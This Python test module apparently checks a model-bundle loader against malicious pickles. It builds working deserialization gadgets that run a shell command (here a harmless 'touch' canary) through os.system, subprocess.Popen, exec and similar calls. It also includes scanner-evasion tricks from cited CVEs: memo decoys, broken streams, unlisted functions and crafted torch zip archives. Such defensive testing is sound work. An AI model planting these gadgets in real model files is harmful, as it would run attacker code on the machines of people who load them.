"""Pickles that run something when they are opened, under every name that a bundle knows."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable

from vocation.bundle import ensemble, layout

from .cases import START, WHOLE, Case, technique

_SOUR = "M. Slaviero, Sour Pickles, Black Hat USA 2011"
_FICKLING = (
    "Trail of Bits, Never a dill moment: exploiting machine learning pickle files, 2021 (fickling)"
)
_PICKLESCAN = "picklescan advisories CVE-2025-1716, CVE-2025-10155 to 10157"
_NULLIFAI = "ReversingLabs, nullifAI: malicious models with broken pickles, 2025"
SINGLE = ("tiny", "tasks", "default")


class Reduced:
    """Calls `function` with `arguments` when it is unpickled."""

    def __init__(self, function: object, *arguments: object) -> None:
        self.made = (function, arguments)

    def __reduce__(self) -> object:
        return self.made


def _command(case: Case) -> str:
    return f"touch {case.canary}"


def _text(value: str) -> bytes:
    return pickle.BINUNICODE + struct.pack("<I", len(value.encode())) + value.encode()


def _reduce(case: Case) -> bytes:
    import posix

    return pickle.dumps(
        {"classes_": Reduced(posix.system, _command(case))}, protocol=case.rng.randrange(6)
    )


def _run_python(case: Case) -> bytes:
    function = case.rng.choice([exec, eval, compile, __import__, open])
    arguments = {
        "open": (str(case.canary), "w"),
        "compile": ("1", "x", "eval"),
        "__import__": ("antigravity",),
    }
    return pickle.dumps(
        Reduced(function, *arguments.get(function.__name__, (f"open({str(case.canary)!r},'w')",))),
        protocol=case.rng.randrange(6),
    )


def _global(case: Case) -> bytes:
    return b"cos\nsystem\n(S'" + _command(case).encode() + b"'\ntR."


def _inst(case: Case) -> bytes:
    return b"(S'" + _command(case).encode() + b"'\nios\nsystem\n."


def _obj(case: Case) -> bytes:
    return b"(cos\nsystem\nS'" + _command(case).encode() + b"'\no."


def _build(case: Case) -> bytes:
    """An object whose state sets __setstate__ to a function, which a second BUILD then calls."""
    return (
        b"ccollections\nCounter\n)\x81}(S'__setstate__'\ncos\nsystem\nubS'"
        + _command(case).encode()
        + b"'\nb."
    )


def _newobj(case: Case) -> bytes:
    return b"\x80\x04csubprocess\nPopen\n(S'" + _command(case).encode() + b"'\nt\x81."


def _newobj_ex(case: Case) -> bytes:
    return (
        b"\x80\x04csubprocess\nPopen\n(S'"
        + _command(case).encode()
        + b"'\nt}(S'shell'\nI01\nu\x92."
    )


def _stack_global(case: Case) -> bytes:
    return b"\x80\x04" + _text("os") + _text("system") + b"\x93(" + _text(_command(case)) + b"tR."


def _through_memo(case: Case) -> bytes:
    """The name comes from the memo, past a decoy: scanners that look at the last two texts see the
    decoy.
    """
    return (
        b"\x80\x04"
        + _text("os")
        + b"\x940"
        + _text("system")
        + b"\x940"
        + _text("numpy")
        + b"0"
        + b"h\x00h\x01\x93("
        + _text(_command(case))
        + b"tR."
    )


def _behind_pop(case: Case) -> bytes:
    return b"\x80\x04" + _text("os") + _text("system") + b"N0\x93(" + _text(_command(case)) + b"tR."


def _dotted(case: Case) -> bytes:
    return (
        b"\x80\x04"
        + _text("numpy")
        + _text("f2py.os.system")
        + b"\x93("
        + _text(_command(case))
        + b"tR."
    )


def _attribute_chain(case: Case) -> bytes:
    return (
        b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(X\x02\x00\x00\x00ostRX\x06\x00\x00\x00systemtR("
        + _text(_command(case))
        + b"tR."
    )


def _reentry(case: Case) -> bytes:
    inner = _global(case)
    return b"\x80\x04c_pickle\nloads\n(B" + struct.pack("<I", len(inner)) + inner + b"tR."


def _unlisted(case: Case) -> bytes:
    """Functions that lists of forbidden names have missed."""
    module, name = case.rng.choice(
        [
            "pip main",
            "runpy _run_code",
            "timeit timeit",
            "pydoc pipepager",
            "asyncio.unix_events _UnixSubprocessTransport",
            "cProfile run",
            "torch.jit.unsupported_tensor_ops execWrapper",
            "numpy.testing._private.utils runstring",
            "ensurepip _run_pip",
        ]
    ).split()
    return f"c{module}\n{name}\n(S'{_command(case)}'\ntR.".encode()


def _registry(case: Case) -> bytes:
    return b"\x80\x02\x82\x01(" + _text(_command(case)) + b"tR."


def _broken(case: Case) -> bytes:
    """The gadget runs first, then the file breaks: what cannot be read to its end was never
    scanned.
    """
    return _global(case)[:-1] + b"\xff\xff broken"


def _second(case: Case) -> bytes:
    return pickle.dumps(["harmless"]) + _global(case)


def _persistent(case: Case) -> bytes:
    return b"P" + _command(case).encode() + b"\n."


GADGETS: list[tuple[Callable[[Case], bytes], str]] = [
    *((gadget, _SOUR) for gadget in (_reduce, _global, _inst, _obj, _build, _run_python)),
    *(
        (gadget, _FICKLING)
        for gadget in (
            _newobj,
            _newobj_ex,
            _stack_global,
            _through_memo,
            _behind_pop,
            _attribute_chain,
            _registry,
            _persistent,
        )
    ),
    *((gadget, _PICKLESCAN) for gadget in (_dotted, _reentry, _unlisted)),
    *((gadget, _NULLIFAI) for gadget in (_broken, _second)),
]


def payload(case: Case) -> bytes:
    gadget, source = case.rng.choice(GADGETS)
    case.note = f"{gadget.__name__[1:]} ({source})"
    return gadget(case)


def _every(name: str) -> Callable[[Case], None]:
    def spoil(case: Case) -> None:
        case.put(
            name if name in (ensemble.LIST, layout.MANIFEST) else case.file(name), payload(case)
        )
        case.sealed = name != layout.MANIFEST

    spoil.__name__ = f"pickle as {name}"
    return spoil


for _name in (*layout.SERVING, ensemble.LIST, layout.MANIFEST):
    technique(_SOUR)(_every(_name))
technique(_SOUR, bases=("tasks", "default"))(_every(layout.TASKS))
for _repeat in range(6):  # the one file that a person is meant to unpickle gets the most
    technique(_FICKLING, WHOLE, SINGLE)(_every(layout.LABELS))
technique(_SOUR, (*WHOLE, *START, "complete"), SINGLE)(_every(layout.WEIGHTS))


def torch_zip(
    case: Case,
    data: bytes,
    root: str = "archive",
    more: dict[str, bytes] | None = None,
    method: int = zipfile.ZIP_STORED,
) -> bytes:
    """A file as torch.save writes it, with `data` for its pickle."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in {
            "data.pkl": data,
            "byteorder": b"little",
            "version": b"3\n",
            **(more or {}),
        }.items():
            archive.writestr(f"{root}/{name}", content)
    return stream.getvalue()


@technique(
    "PyTorch advisory CVE-2025-32434; PyTorch Hub documentation, Security",
    (*WHOLE, *START, "complete"),
    SINGLE,
)
def torch_zip_with_a_gadget(case: Case) -> None:
    case.put(layout.WEIGHTS, torch_zip(case, payload(case)))


@technique(_NULLIFAI, (*WHOLE, *START), SINGLE)
def torch_zip_with_two_pickles(case: Case) -> None:
    case.put(
        layout.WEIGHTS,
        torch_zip(case, pickle.dumps({}, 2), more={"../archive/data.pkl": payload(case)}),
    )


@technique(
    "CVE-2025-1889: picklescan and files with other endings inside", (*WHOLE, *START), SINGLE
)
def torch_zip_with_code_beside(case: Case) -> None:
    case.put(
        layout.WEIGHTS,
        torch_zip(
            case,
            pickle.dumps({}, 2),
            more={"code/__torch__.py": b"import os", "constants.pkl": payload(case)},
        ),
    )


@technique("CVE-2025-1945: picklescan and flag bits of zip entries", (*WHOLE, *START), SINGLE)
def torch_zip_with_flags(case: Case) -> None:
    content = bytearray(torch_zip(case, payload(case)))
    for mark in (content.find(b"PK\x03\x04") + 6, content.find(b"PK\x01\x02") + 8):
        content[mark] |= 0x1
    case.put(layout.WEIGHTS, bytes(content))
